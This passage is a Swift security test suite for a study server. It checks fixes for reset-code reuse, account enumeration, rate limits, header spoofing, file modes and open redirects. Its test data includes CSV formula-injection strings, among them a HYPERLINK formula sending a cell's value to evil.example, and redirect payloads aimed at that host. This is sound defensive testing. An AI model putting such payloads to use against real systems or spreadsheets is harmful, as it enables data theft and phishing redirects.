import Foundation
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import NIOCore
import Synchronization
import Testing
import UNITIProtocol
@testable import UNITIServer

// The findings of issue 27 (a probe of the running server as an attacker would), one test or
// more per point, each failing on the server before the fix.

// MARK: Helpers

/// Runs `body` against the router of `environment` in-process, with its mail queue running
/// (stopped, and so drained, when `body` returns), as ``TestServer/run(_:)`` does.
func runInProcess(_ environment: ServerEnvironment, _ body: @Sendable (any TestClientProtocol) async throws -> Void) async throws {
    let app = Application(router: ServerApplication.router(environment: environment), services: ServerApplication.services(environment))
    try await app.test(.router) { client in try await body(client) }
}

/// Runs `body` against `environment` on a real loopback socket: the server sees a TCP peer
/// (127.0.0.1), so a client address and `X-Forwarded-For` mean what they mean behind nginx.
func runLive(_ environment: ServerEnvironment, _ body: @Sendable (any TestClientProtocol) async throws -> Void) async throws {
    let app = Application(router: ServerApplication.router(environment: environment),
                          configuration: .init(address: .hostname("127.0.0.1", port: 0)),
                          services: ServerApplication.services(environment))
    try await app.test(.live) { client in try await body(client) }
}

/// `X-Forwarded-For` naming `address`, as a proxy in front of the server sends it.
func forwarded(_ address: String) -> HTTPFields {
    [HTTPField.Name("X-Forwarded-For")!: address]
}

extension TestServer {
    /// The text of every mail to `address` whose subject contains `subject`, oldest first, once
    /// the mail queue has sent what it holds.
    func mails(to address: String, subject: String = "") async throws -> [String] {
        await environment.mail.idle()
        return try spool.messages().compactMap { message in
            let text = try String(contentsOf: message.url, encoding: .utf8)
            let subjectLine = MailHeader.value("Subject", in: text) ?? ""
            return text.contains("To: \(address)\r\n") && subjectLine.contains(subject) ? text : nil
        }
    }

    /// The code of the newest mail to `address` whose subject contains `subject`.
    func newestCode(to address: String, subject: String) async throws -> String {
        guard let text = try await mails(to: address, subject: subject).last,
              let line = text.split(whereSeparator: \.isNewline).first(where: { $0.hasPrefix("    ") }) else {
            throw TestFailure("no mail to \(address) about '\(subject)'")
        }
        return line.trimmingCharacters(in: .whitespaces)
    }

    /// Asks for a password reset and returns the mailed code; the clock moves a second on, so
    /// that the spool (named by time) keeps the mails in order.
    func resetCode(_ client: any TestClientProtocol, _ email: String) async throws -> String {
        clock.advance(by: 1)
        let asked = try await client.json(.post, "/api/v1/account/password-reset", body: PasswordResetRequest(email: email))
        #expect(asked.status == .accepted)
        return try await newestCode(to: email, subject: "reset")
    }
}

/// A mailer that holds every message until the test opens it: shows whether a route waits for
/// its mail (or the work before it) or answers first.
final class GatedMailer: Mailer, @unchecked Sendable {
    let inner: any Mailer
    private let lock = NSLock()
    private var isOpen = false
    private var waiting: [CheckedContinuation<Void, Never>] = []

    init(_ inner: any Mailer) { self.inner = inner }

    func open() {
        let resumed = lock.withLock {
            isOpen = true
            defer { waiting = [] }
            return waiting
        }
        for continuation in resumed { continuation.resume() }
    }

    func send(_ mail: OutgoingMail) async throws {
        await withCheckedContinuation { continuation in
            let go = lock.withLock {
                if !isOpen { waiting.append(continuation) }
                return isOpen
            }
            if go { continuation.resume() }
        }
        try await inner.send(mail)
    }
}

/// The value of `work`, or nil when it has not come within `seconds`; `onTimeout` runs first
/// then (it must let `work` finish, e.g. open a gate).
func within<T: Sendable>(_ seconds: Double, onTimeout: @escaping @Sendable () -> Void,
                         _ work: @escaping @Sendable () async throws -> T) async throws -> T? {
    try await withThrowingTaskGroup(of: T?.self) { group in
        group.addTask { try await work() }
        group.addTask {
            try? await Task.sleep(for: .seconds(seconds))
            return nil
        }
        let first = try await group.next() ?? nil
        if first == nil { onTimeout() }
        group.cancelAll()
        while try await group.next() != nil {}
        return first
    }
}

// MARK: 1. Reset codes

@Suite("Security: password-reset codes work once (issue 27.1)", .timeLimit(.minutes(10)))
struct ResetCodeTests {
    @Test("asking for a new reset code cancels the older one; a code works once")
    func newerCodeCancelsOlder() async throws {
        let server = try TestServer()
        try await server.run { client in
            _ = try await client.signUp("rita", on: server)
            let first = try await server.resetCode(client, "rita@example.org")
            let second = try await server.resetCode(client, "rita@example.org")
            #expect(first != second)
            let old = try await client.json(.post, "/api/v1/account/password-reset/confirm",
                                            body: PasswordResetConfirmation(token: first, newPassword: "taken over"))
            #expect(old.errorCode == "invalid_token", "the older code was cancelled by the newer one")
            #expect(try await client.json(.post, "/api/v1/account/password-reset/confirm",
                                          body: PasswordResetConfirmation(token: second, newPassword: "rita's new one")).status == .ok)
            #expect(try await client.json(.post, "/api/v1/account/password-reset/confirm",
                                          body: PasswordResetConfirmation(token: second, newPassword: "again again")).errorCode == "invalid_token")
            #expect(try await client.json(.post, "/api/v1/account/login", body: LoginRequest(login: "rita", password: "rita's new one")).status == .ok)
        }
    }

    @Test("changing the password, through the API or the portal, cancels every open reset code")
    func passwordChangeCancelsCodes() async throws {
        let server = try TestServer()
        try await server.run { client in
            let token = try await client.signUp("sven", on: server)
            let before = try await server.resetCode(client, "sven@example.org")
            #expect(try await client.json(.post, "/api/v1/account/password", token: token,
                                          body: PasswordChangeRequest(currentPassword: "correct horse", newPassword: "second horse")).status == .ok)
            let late = try await client.json(.post, "/api/v1/account/password-reset/confirm",
                                             body: PasswordResetConfirmation(token: before, newPassword: "taken over"))
            #expect(late.errorCode == "invalid_token")

            let browser = PortalBrowser(client)
            try await browser.logIn(server, "sven", password: "second horse")
            let portalBefore = try await server.resetCode(client, "sven@example.org")
            let changed = try await browser.submit("/profile", to: "/profile/password",
                                                   ["currentPassword": "second horse", "password": "third horse", "passwordRepeat": "third horse"])
            #expect(changed.status == .seeOther)
            #expect(try await client.json(.post, "/api/v1/account/password-reset/confirm",
                                          body: PasswordResetConfirmation(token: portalBefore, newPassword: "taken over")).errorCode == "invalid_token")
            #expect(try await client.json(.post, "/api/v1/account/login", body: LoginRequest(login: "sven", password: "third horse")).status == .ok)
        }
    }

    @Test("the person's data download shows no reset code as still open once a newer one was used")
    func downloadShowsNoOpenCode() async throws {
        let server = try TestServer()
        try await server.run { client in
            _ = try await client.signUp("tara", on: server)
            _ = try await server.resetCode(client, "tara@example.org")
            let used = try await server.resetCode(client, "tara@example.org")
            #expect(try await client.json(.post, "/api/v1/account/password-reset/confirm",
                                          body: PasswordResetConfirmation(token: used, newPassword: "tara's new one")).status == .ok)
        }
        let account = try #require(try await server.store.user(login: "tara"))
        let json = try #require(try await PersonalDataExport(environment: server.environment).json(userId: account.id))
        let document = try #require(try JSONSerialization.jsonObject(with: json) as? [String: Any])
        let codes = try #require(document["mailedCodes"] as? [[String: Any]]).filter { $0["purpose"] as? String == "passwordReset" }
        #expect(codes.count == 2)
        let open = codes.filter { $0["usedAt"] == nil && $0["cancelledAt"] == nil }
        #expect(open.isEmpty, "open reset codes in the download: \(open)")
    }
}

// MARK: 2 and 7. Registration and reset requests

@Suite("Security: registration and reset tell nothing and are limited (issue 27.2, 27.7)", .timeLimit(.minutes(10)))
struct MailRequestTests {
    @Test("registering with an address that has an account answers exactly like a new registration and mails the address a note in its language")
    func takenAddressLooksNew() async throws {
        let server = try TestServer()
        try await server.run { client in
            let first = try await client.json(.post, "/api/v1/account/register",
                                              body: RegisterRequest(username: "anke", email: "anke@example.org", password: "correct horse", language: "de"))
            #expect(first.status == .created)
            let fresh = try await client.json(.post, "/api/v1/account/register",
                                              body: RegisterRequest(username: "bernd", email: "bernd@example.org", password: "correct horse"))
            let taken = try await client.json(.post, "/api/v1/account/register",
                                              body: RegisterRequest(username: "intruder", email: "Anke@Example.org", password: "intruder pw"))
            #expect(taken.status == fresh.status)
            #expect(taken.text == fresh.text)
            #expect(taken.headers[.contentType] == fresh.headers[.contentType])
            // A taken username may still say so.
            let sameName = try await client.json(.post, "/api/v1/account/register",
                                                 body: RegisterRequest(username: "ANKE", email: "new@example.org", password: "correct horse"))
            #expect(sameName.errorCode == "username_taken")

            let notes = try await server.mails(to: "anke@example.org", subject: "Registrierung")
            #expect(notes.count == 1, "the owner of the address hears of the attempt, in German")
            #expect(notes.first?.contains("intruder pw") == false)
            #expect(try await server.store.user(login: "intruder") == nil)
            #expect(try await server.store.users(offset: 0, limit: 10).total == 2)

            // The portal: the same page after a taken address as after a new one.
            let browser = PortalBrowser(client)
            let portalTaken = try await browser.submit("/register", to: "/register", ["username": "intruder2", "email": "anke@example.org",
                                                                                     "password": "intruder pw", "passwordRepeat": "intruder pw"])
            let portalNew = try await browser.submit("/register", to: "/register", ["username": "carla", "email": "carla@example.org",
                                                                                   "password": "correct horse", "passwordRepeat": "correct horse"])
            #expect(portalTaken.status == portalNew.status)
            #expect(portalTaken.headers[.location] == portalNew.headers[.location])
        }
    }

    @Test("registration and reset requests are limited per e-mail address (429 with Retry-After)")
    func limitedPerAddress() async throws {
        let server = try TestServer()
        try await server.run { client in
            var statuses: [HTTPResponse.Status] = []
            for index in 0..<6 {
                statuses.append(try await client.json(.post, "/api/v1/account/register",
                                                      body: RegisterRequest(username: "dora\(index)", email: "dora@example.org",
                                                                            password: "correct horse")).status)
            }
            #expect(statuses.prefix(5).allSatisfy { $0 == .created }, "\(statuses)")
            #expect(statuses.last == .tooManyRequests)

            var resets: [TestResponse] = []
            for _ in 0..<6 {
                resets.append(try await client.json(.post, "/api/v1/account/password-reset", body: PasswordResetRequest(email: "nobody@example.org")))
            }
            #expect(resets.prefix(5).allSatisfy { $0.status == .accepted })
            #expect(resets.last?.status == .tooManyRequests)
            #expect(Int(resets.last?.headers[.retryAfter] ?? "") ?? 0 > 0)
        }
    }

    @Test("at most three reset mails per hour reach one address; a fourth request is answered the same and sends nothing")
    func threeResetMailsPerHour() async throws {
        let server = try TestServer()
        try await server.run { client in
            _ = try await client.signUp("ella", on: server)
            for _ in 0..<5 {
                server.clock.advance(by: 1)
                let asked = try await client.json(.post, "/api/v1/account/password-reset", body: PasswordResetRequest(email: "ella@example.org"))
                #expect(asked.status == .accepted)
            }
            #expect(try await server.mails(to: "ella@example.org", subject: "reset").count == 3)
            server.clock.advance(by: 3600)
            _ = try await client.json(.post, "/api/v1/account/password-reset", body: PasswordResetRequest(email: "ella@example.org"))
            #expect(try await server.mails(to: "ella@example.org", subject: "reset").count == 4, "an hour later, one more")
        }
    }

    @Test("the reset and registration routes answer before any mail is sent, for known and unknown addresses alike")
    func routesDoNotWaitForMail() async throws {
        let server = try TestServer()
        try await server.run { client in _ = try await client.signUp("finn", on: server) }
        let gate = GatedMailer(server.environment.mailer)
        let environment = ServerEnvironment(store: server.store, mailer: gate, clock: server.clock, passwords: PasswordHasher(cost: 4))
        try await runInProcess(environment) { client in
            for email in ["finn@example.org", "nobody@example.org"] {
                let answer = try await within(20, onTimeout: { gate.open() }) {
                    try await client.json(.post, "/api/v1/account/password-reset", body: PasswordResetRequest(email: email)).status
                }
                #expect(answer == .accepted, "\(email): the route waited for the mail")
            }
            let registered = try await within(20, onTimeout: { gate.open() }) {
                try await client.json(.post, "/api/v1/account/register",
                                      body: RegisterRequest(username: "gerd", email: "gerd@example.org", password: "correct horse")).status
            }
            #expect(registered == .created, "registration waited for the mail")
            gate.open()
        }
        #expect(try await server.mails(to: "finn@example.org", subject: "reset").count == 1, "the held mail went out once the gate opened")
        #expect(try await server.mails(to: "gerd@example.org", subject: "activate").count == 1)
    }

    @Test("registration and reset requests from one client address are limited across addresses; another client is not held up")
    func limitedPerClient() async throws {
        let server = try TestServer()
        try await runLive(server.environment) { client in
            var statuses: [HTTPResponse.Status] = []
            for index in 0..<21 {
                statuses.append(try await client.json(.post, "/api/v1/account/register",
                                                      body: RegisterRequest(username: "mass\(index)", email: "mass\(index)@example.org", password: "correct horse"),
                                                      headers: forwarded("203.0.113.9")).status)
            }
            #expect(statuses.prefix(20).allSatisfy { $0 == .created }, "\(statuses)")
            #expect(statuses.last == .tooManyRequests)
            let other = try await client.json(.post, "/api/v1/account/register",
                                              body: RegisterRequest(username: "calm", email: "calm@example.org", password: "correct horse"),
                                              headers: forwarded("203.0.113.10"))
            #expect(other.status == .created)

            var resets: [HTTPResponse.Status] = []
            for index in 0..<21 {
                resets.append(try await client.json(.post, "/api/v1/account/password-reset", body: PasswordResetRequest(email: "who\(index)@example.org"),
                                                    headers: forwarded("198.51.100.4")).status)
            }
            #expect(resets.prefix(20).allSatisfy { $0 == .accepted }, "\(resets)")
            #expect(resets.last == .tooManyRequests)
        }
    }
}

// MARK: 3. Export

@Suite("Security: the CSV export neutralises spreadsheet formulas (issue 27.3)", .timeLimit(.minutes(10)))
struct ExportFormulaTests {
    @Test("a free-text answer that a spreadsheet would run gets a leading ' in CSV only; numbers stay numbers")
    func csvCellsNeutralised() async throws {
        let server = try TestServer()
        try await server.createStudy("open")
        try await server.addQuestionnaire(study: "open")
        let user = try await server.store.createUser(username: "pia", email: "pia@example.org", passwordHash: "x", language: "en",
                                                     pseudonym: "P-pia", now: server.clock.now())
        let texts = ["a": #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#, "b": "@SUM(1+9)", "c": "+1+2", "d": "-2+3",
                     "e": "\tcmd", "f": "\rcmd", "g": "-3", "h": "plain words", "i": "-1e-07"]
        var written = sheet(loudness: 40)
        for (label, text) in texts { written.answers[label] = Answer(value: .text(text), answeredAt: written.startedAt) }
        written.answers["negative"] = Answer(value: .number(-3), answeredAt: written.startedAt)
        _ = try await server.store.storeSheets(userId: user, sheets: [ValidatedSheet(sheet: written, studyId: "open")], receivedAt: server.clock.now())

        let out = server.directory.appendingPathComponent("export")
        for format in ["csv", "json"] {
            try await runServerCommand(["export", "--study", "open", "--format", format, "--out", out.path, "--database", server.databasePath])
        }
        let csv = try String(contentsOf: out.appendingPathComponent("open-answers.csv"), encoding: .utf8)
        var values: [String: String] = [:]
        for row in try CSVReader.rows(csv).dropFirst() { values[row[4]] = row[5] }
        #expect(values["a"] == "'" + texts["a"]!)
        #expect(values["b"] == "'@SUM(1+9)")
        #expect(values["c"] == "'+1+2")
        #expect(values["d"] == "'-2+3")
        #expect(values["e"] == "'\tcmd")
        #expect(values["f"] == "'\rcmd")
        #expect(values["g"] == "-3", "a lone number runs nothing and stays the number the person typed")
        #expect(values["i"] == "-1e-07")
        #expect(values["h"] == "plain words")
        #expect(values["negative"] == "-3")
        #expect(csv.contains(",-42.5,"), "the microphone level is a number, not text")

        let json = try JSONDecoder().decode([ExportRow].self, from: Data(contentsOf: out.appendingPathComponent("open-answers.json")))
        #expect(json.first { $0.label == "a" }?.value == texts["a"], "JSON keeps the value as given")
        #expect(json.first { $0.label == "d" }?.value == "-2+3")
    }
}

/// Reads RFC 4180 CSV (quoted fields with doubled quotes, CRLF records) into rows of fields.
enum CSVReader {
    static func rows(_ text: String) throws -> [[String]] {
        var rows: [[String]] = []
        var row: [String] = []
        var field = ""
        var quoted = false
        var characters = Array(text.unicodeScalars)[...]
        while let scalar = characters.popFirst() {
            if quoted {
                if scalar == "\"" {
                    if characters.first == "\"" { field.unicodeScalars.append("\""); characters.removeFirst() } else { quoted = false }
                } else {
                    field.unicodeScalars.append(scalar)
                }
            } else if scalar == "\"" {
                quoted = true
            } else if scalar == "," {
                row.append(field)
                field = ""
            } else if scalar == "\r", characters.first == "\n" {
                characters.removeFirst()
                row.append(field)
                rows.append(row)
                row = []
                field = ""
            } else {
                field.unicodeScalars.append(scalar)
            }
        }
        guard row.isEmpty, field.isEmpty, !quoted else { throw TestFailure("the CSV does not end with a complete record") }
        return rows
    }
}

// MARK: 4. Study passwords

@Suite("Security: study passwords (issue 27.4)", .timeLimit(.minutes(10)))
struct StudyPasswordSecurityTests {
    @Test("wrong study passwords are counted per study across accounts: fresh accounts do not get fresh tries")
    func countedAcrossAccounts() async throws {
        let server = try TestServer()
        try await server.createStudy("secret", access: .password, password: "the right one")
        try await server.run { client in
            var answers: [String?] = []
            for index in 0..<21 {
                let token = try await client.signUp("guess\(index)", on: server)
                answers.append(try await client.json(.post, "/api/v1/studies/secret/join", token: token,
                                                     body: JoinStudyRequest(password: "guess \(index)")).errorCode)
            }
            #expect(answers.prefix(20).allSatisfy { $0 == "wrong_study_password" }, "\(answers)")
            #expect(answers.last == "too_many_study_attempts")
            let honest = try await client.signUp("honest", on: server)
            let held = try await client.json(.post, "/api/v1/studies/secret/join", token: honest, body: JoinStudyRequest(password: "the right one"))
            #expect(held.status == .tooManyRequests, "while the study is throttled even the right password waits")
            server.clock.advance(by: 16 * 60)
            #expect(try await client.json(.post, "/api/v1/studies/secret/join", token: honest,
                                          body: JoinStudyRequest(password: "the right one")).status == .ok)
        }
    }

    @Test("study create and update refuse a password under 8 characters")
    func eightCharacters() async throws {
        let server = try TestServer()
        let database = ["--database", server.databasePath]
        await #expect(throws: (any Error).self) {
            try await runServerCommand(["study", "create", "short", "--title", "S", "--access", "password", "--password", "abcd"] + database)
        }
        #expect(try await server.store.study(id: "short") == nil)
        await #expect(throws: (any Error).self) {
            try await runServerCommand(["study", "create", "short", "--title", "S", "--access", "password", "--password", "seven77"] + database)
        }
        try await runServerCommand(["study", "create", "long", "--title", "L", "--access", "password", "--password", "eight888"] + database)
        await #expect(throws: (any Error).self) {
            try await runServerCommand(["study", "update", "long", "--password", "abcd"] + database)
        }
        let (status, message) = try ServerBinaryTests.runCommand(["study", "create", "tiny", "--title", "T", "--access", "password",
                                                                  "--password", "abcd"] + database)
        #expect(status != 0)
        #expect(message.contains("8 characters"), "\(message)")
    }

    @Test("a shorter password set before the rule keeps working, and study show warns about it")
    func oldShortPasswordWarns() async throws {
        let server = try TestServer()
        try await server.createStudy("old", access: .password, password: "abcd")
        try await server.run { client in
            let token = try await client.signUp("olga", on: server)
            #expect(try await client.json(.post, "/api/v1/studies/old/join", token: token, body: JoinStudyRequest(password: "abcd")).status == .ok)
        }
        try await runServerCommand(["study", "create", "new", "--title", "N", "--access", "password", "--password", "long enough",
                                    "--database", server.databasePath])
        let (oldStatus, oldShown) = try ServerBinaryTests.runCommand(["study", "show", "old", "--database", server.databasePath])
        #expect(oldStatus == 0)
        #expect(oldShown.contains("warning") && oldShown.contains("8 characters"), "\(oldShown)")
        let (_, newShown) = try ServerBinaryTests.runCommand(["study", "show", "new", "--database", server.databasePath])
        #expect(!newShown.contains("warning"), "\(newShown)")
    }
}

// MARK: 5. Login throttle

@Suite("Security: the login throttle (issue 27.5)", .timeLimit(.minutes(10)))
struct LoginThrottleSecurityTests {
    @Test("failed logins count per account, whichever name is used")
    func perAccount() async throws {
        let server = try TestServer()
        try await server.run { client in
            _ = try await client.signUp("frank", on: server)
            for login in ["frank", "frank", "frank", "frank@example.org", "FRANK@example.org"] {
                #expect(try await client.json(.post, "/api/v1/account/login", body: LoginRequest(login: login, password: "wrong one")).status == .unauthorized)
            }
            for login in ["frank", "frank@example.org"] {
                let held = try await client.json(.post, "/api/v1/account/login", body: LoginRequest(login: login, password: "correct horse"))
                #expect(held.status == .tooManyRequests, "\(login)")
            }
        }
    }

    @Test("one client address guessing at many accounts is slowed after 30 failures; another address is not")
    func perClientAddress() async throws {
        let server = try TestServer()
        try await runLive(server.environment) { client in
            _ = try await client.signUp("gina", on: server)
            for index in 0..<30 {
                let wrong = try await client.json(.post, "/api/v1/account/login", body: LoginRequest(login: "victim\(index)", password: "guess"),
                                                  headers: forwarded("192.0.2.77"))
                #expect(wrong.status == .unauthorized)
            }
            let held = try await client.json(.post, "/api/v1/account/login", body: LoginRequest(login: "gina", password: "correct horse"),
                                             headers: forwarded("192.0.2.77"))
            #expect(held.status == .tooManyRequests)
            #expect(Int(held.headers[.retryAfter] ?? "") ?? 0 > 0)
            let elsewhere = try await client.json(.post, "/api/v1/account/login", body: LoginRequest(login: "gina", password: "correct horse"),
                                                  headers: forwarded("192.0.2.78"))
            #expect(elsewhere.status == .ok)
        }
    }
}

@Suite("Security: client addresses (issue 27.5)", .timeLimit(.minutes(10)))
struct ClientAddressTests {
    @Test("X-Forwarded-For is believed only from a trusted proxy, read from the right; IPv6 counts per /64")
    func forwardedFor() throws {
        let local = try #require(ClientAddress("127.0.0.1"))
        let stranger = try #require(ClientAddress("203.0.113.5"))
        let loopback = TrustedProxies.loopback
        #expect(loopback.client(peer: stranger, forwardedFor: ["198.51.100.1"]) == stranger, "an untrusted peer names no one")
        #expect(loopback.client(peer: local, forwardedFor: []) == local)
        #expect(loopback.client(peer: local, forwardedFor: ["198.51.100.1"])?.text == "198.51.100.1")
        #expect(loopback.client(peer: local, forwardedFor: ["6.6.6.6, 198.51.100.1"])?.text == "198.51.100.1",
                "what the client wrote into the header itself is not believed")
        let chain = try TrustedProxies(parsing: ["loopback", "10.0.0.5"])
        #expect(chain.client(peer: local, forwardedFor: ["198.51.100.1, 10.0.0.5"])?.text == "198.51.100.1")
        #expect(chain.client(peer: local, forwardedFor: ["198.51.100.1", "garbage, 10.0.0.5"])?.text == "10.0.0.5",
                "what lies left of an entry that is no address cannot be checked")
        #expect(TrustedProxies.none.client(peer: local, forwardedFor: ["198.51.100.1"]) == local)
        #expect(TrustedProxies.loopback.client(peer: nil, forwardedFor: ["198.51.100.1"]) == nil)
        #expect(ClientAddress("::ffff:192.0.2.1")?.text == "192.0.2.1")
        #expect(ClientAddress("[2001:db8:1:2:3:4:5:6]")?.throttleKey == "2001:db8:1:2::/64")
        #expect(ClientAddress("::1").map { loopback.trusts($0) } == true)
        #expect(ClientAddress("not an address") == nil)
        #expect(throws: (any Error).self) { try TrustedProxies(parsing: ["proxy.example.org"]) }
        #expect(throws: (any Error).self) { try UNITIServerCommand.parseAsRoot(["serve", "--trusted-proxy", "proxy.example.org"]) }
    }

    @Test("from a peer that is no trusted proxy, a client cannot name itself a new address for every guess")
    func untrustedHeaderIgnored() async throws {
        let server = try TestServer()
        var environment = server.environment
        environment.trustedProxies = .none
        try await runLive(environment) { client in
            for index in 0..<30 {
                let wrong = try await client.json(.post, "/api/v1/account/login", body: LoginRequest(login: "victim\(index)", password: "guess"),
                                                  headers: forwarded("192.0.2.\(index)"))
                #expect(wrong.status == .unauthorized)
            }
            let held = try await client.json(.post, "/api/v1/account/login", body: LoginRequest(login: "victim99", password: "guess"),
                                             headers: forwarded("192.0.2.200"))
            #expect(held.status == .tooManyRequests)
        }
    }
}

// MARK: 6. File modes

@Suite("Security: server files are private (issue 27.6)", .timeLimit(.minutes(10)))
struct FileModeTests {
    static func mode(_ path: String) throws -> Int {
        (try FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? NSNumber)?.intValue ?? -1
    }

    /// Starts the real server under umask 022 (as a login shell usually has), its log in `log`.
    static func start(database: String, spool: String, log: URL) throws -> (process: Process, port: Int) {
        _ = FileManager.default.createFile(atPath: log.path, contents: nil)
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/bin/sh")
        process.arguments = ["-c", #"umask 022; exec "$0" "$@""#, try ServerBinaryTests.binary().path,
                             "serve", "--port", "0", "--database", database, "--mail-spool", spool, "--bcrypt-cost", "4"]
        let output = Pipe()
        process.standardOutput = output
        process.standardError = try FileHandle(forWritingTo: log)
        try process.run()
        var buffer = ""
        while true {
            let chunk = output.fileHandleForReading.availableData
            if chunk.isEmpty { break }
            buffer += String(decoding: chunk, as: UTF8.self)
            if let range = buffer.range(of: #"127\.0\.0\.1:(\d+)"#, options: .regularExpression) {
                return (process, Int(buffer[range].split(separator: ":").last!)!)
            }
        }
        throw TestFailure("server did not report its port: \(buffer)")
    }

    static func stop(_ process: Process) {
        process.terminate()
        process.waitUntilExit()
    }

    @Test("under umask 022 the database with its -wal and -shm, the spool and an export are 0600 in 0700 folders")
    func privateModes() async throws {
        let root = FileManager.default.temporaryDirectory.appendingPathComponent("uniti-modes-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: root, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: root) }
        let database = root.appendingPathComponent("data/server.sqlite").path
        let spool = root.appendingPathComponent("spool").path
        let (process, port) = try Self.start(database: database, spool: spool, log: root.appendingPathComponent("log"))
        defer { if process.isRunning { Self.stop(process) } }
        let register = try JSONEncoder().encode(RegisterRequest(username: "mona", email: "mona@example.org", password: "correct horse"))
        let (status, _) = try await ServerBinaryTests.request("POST", "http://127.0.0.1:\(port)/api/v1/account/register", body: register)
        #expect(status == 201)
        var mails: [String] = []
        for _ in 0..<200 where mails.isEmpty {
            mails = ((try? FileManager.default.contentsOfDirectory(atPath: spool)) ?? []).filter { $0.hasSuffix(".eml") }
            if mails.isEmpty { try await Task.sleep(for: .milliseconds(50)) }
        }
        #expect(mails.count == 1)
        for file in [database, database + "-wal", database + "-shm"] + mails.map({ spool + "/" + $0 }) {
            #expect(try Self.mode(file) == 0o600, "\(file)")
        }
        #expect(try Self.mode(root.appendingPathComponent("data").path) == 0o700)
        #expect(try Self.mode(spool) == 0o700)
        Self.stop(process)

        try await runServerCommand(["study", "create", "open", "--title", "Open", "--database", database])
        let out = root.appendingPathComponent("exports/open").path
        let export = Process()
        export.executableURL = URL(fileURLWithPath: "/bin/sh")
        export.arguments = ["-c", #"umask 022; exec "$0" "$@""#, try ServerBinaryTests.binary().path,
                            "export", "--study", "open", "--format", "csv", "--out", out, "--database", database]
        export.standardOutput = FileHandle.nullDevice
        try export.run()
        export.waitUntilExit()
        #expect(export.terminationStatus == 0)
        #expect(try Self.mode(out) == 0o700)
        #expect(try Self.mode(out + "/open-answers.csv") == 0o600)
    }

    @Test("at start the server warns, one line per file, about a database or spool file others can read")
    func warnsAboutReadableFiles() async throws {
        let root = FileManager.default.temporaryDirectory.appendingPathComponent("uniti-modes-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: root, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: root) }
        let database = root.appendingPathComponent("server.sqlite").path
        let spool = root.appendingPathComponent("spool").path
        _ = try ServerStore(sqlitePath: database)
        try FileManager.default.createDirectory(atPath: spool, withIntermediateDirectories: true)
        let mail = spool + "/0000000000001-old.eml"
        _ = FileManager.default.createFile(atPath: mail, contents: Data("To: a@example.org\r\n".utf8))
        for file in [database, mail] { try FileManager.default.setAttributes([.posixPermissions: 0o644], ofItemAtPath: file) }
        let log = root.appendingPathComponent("log")
        let (process, _) = try Self.start(database: database, spool: spool, log: log)
        Self.stop(process)
        let lines = try String(contentsOf: log, encoding: .utf8).split(separator: "\n")
        #expect(lines.filter { $0.contains(database + " ") && $0.contains("warning") }.count == 1, "\(lines)")
        #expect(lines.filter { $0.contains(mail + " ") && $0.contains("warning") }.count == 1, "\(lines)")
        #expect(try Self.mode(database) == 0o644, "a warning, not a change behind the operator's back")
    }
}

// MARK: 8. Smaller gaps

@Suite("Security: smaller gaps (issue 27.8)", .timeLimit(.minutes(10)))
struct SmallerGapTests {
    static func expectPortalHeaders(_ response: TestResponse, _ what: String) {
        #expect(response.headers[.contentType] == "text/html; charset=utf-8", "\(what)")
        #expect(response.headers[.contentSecurityPolicy]?.contains("default-src 'self'") == true, "\(what)")
        #expect(response.headers[.xContentTypeOptions] == "nosniff", "\(what)")
        #expect(response.headers[HTTPField.Name("X-Frame-Options")!] == "DENY", "\(what)")
        #expect(response.headers[.cacheControl] == "no-store", "\(what)")
    }

    @Test("an unknown portal path is an HTML page with the portal's headers; an unknown API path stays JSON")
    func unknownPortalPath() async throws {
        let server = try TestServer()
        try await server.run { client in
            let browser = PortalBrowser(client)
            browser.extraHeaders[.acceptLanguage] = "de"
            let missing = try await browser.get("/no/such/page")
            #expect(missing.status == .notFound)
            Self.expectPortalHeaders(missing, "404")
            #expect(missing.text.contains(#"<html lang="de">"#))
            let api = try await client.get("/api/v1/no-such-route")
            #expect(api.status == .notFound)
            #expect(api.errorCode == "not_found")
        }
    }

    @Test("a form too large for the portal is an HTML page with the portal's headers naming the limit in kB")
    func oversizedForm() async throws {
        let server = try TestServer()
        try await server.run { client in
            let browser = PortalBrowser(client)
            let page = try await browser.get("/register")
            let csrf = try #require(PortalBrowser.csrf(in: page.text))
            let big = try await browser.post("/register", ["csrf": csrf, "username": String(repeating: "a", count: 70_000)])
            #expect(big.status == .contentTooLarge)
            Self.expectPortalHeaders(big, "413")
            #expect(big.text.contains("64 kB"), "\(big.text)")
            #expect(!big.text.contains("65536"))
            let huge = try await browser.post("/register", ["csrf": csrf, "username": String(repeating: "a", count: 1_100_000)])
            #expect(huge.status == .contentTooLarge)
            Self.expectPortalHeaders(huge, "413 beyond the server's limit")
        }
    }

    @Test("API responses with personal data or tokens are Cache-Control: no-store")
    func apiNoStore() async throws {
        let server = try TestServer()
        try await server.createStudy("open")
        try await server.addQuestionnaire(study: "open")
        try await server.run { client in
            let token = try await client.signUp("nora", on: server)
            let login = try await client.json(.post, "/api/v1/account/login", body: LoginRequest(login: "nora", password: "correct horse"))
            #expect(login.headers[.cacheControl] == "no-store", "tokens")
            for path in ["/api/v1/account/profile", "/api/v1/sheets", "/api/v1/sheets/changes", "/api/v1/records", "/api/v1/studies",
                         "/api/v1/studies/open", "/api/v1/questionnaires", "/api/v1/rewards"] {
                let response = try await client.get(path, token: token)
                #expect(response.status == .ok, "\(path)")
                #expect(response.headers[.cacheControl] == "no-store", "\(path)")
            }
        }
    }

    @Test("the language switch returns only to a path of this site, after removing control characters")
    func languageBackStaysOnSite() async throws {
        let server = try TestServer()
        try await server.run { client in
            let browser = PortalBrowser(client)
            for back in ["/\t/evil.example/path", "//evil.example", "/\r\n/evil.example", "https://evil.example/",
                         "\t//evil.example", "/\\evil.example"] {
                let switched = try await browser.submit("/login", to: "/language", ["language": "de", "back": back])
                #expect(switched.headers[.location] == "/", "\(back.debugDescription) → \(switched.headers[.location] ?? "")")
            }
            let same = try await browser.submit("/login", to: "/language", ["language": "en", "back": "/data?page=2"])
            #expect(same.headers[.location] == "/data?page=2")
        }
    }

    @Test("a password change in the portal renews the session: a new cookie, and the old one opens nothing")
    func passwordChangeRenewsSession() async throws {
        let server = try TestServer()
        try await server.run { client in
            let browser = try await server.loggedInPortalAccount(client, "otto")
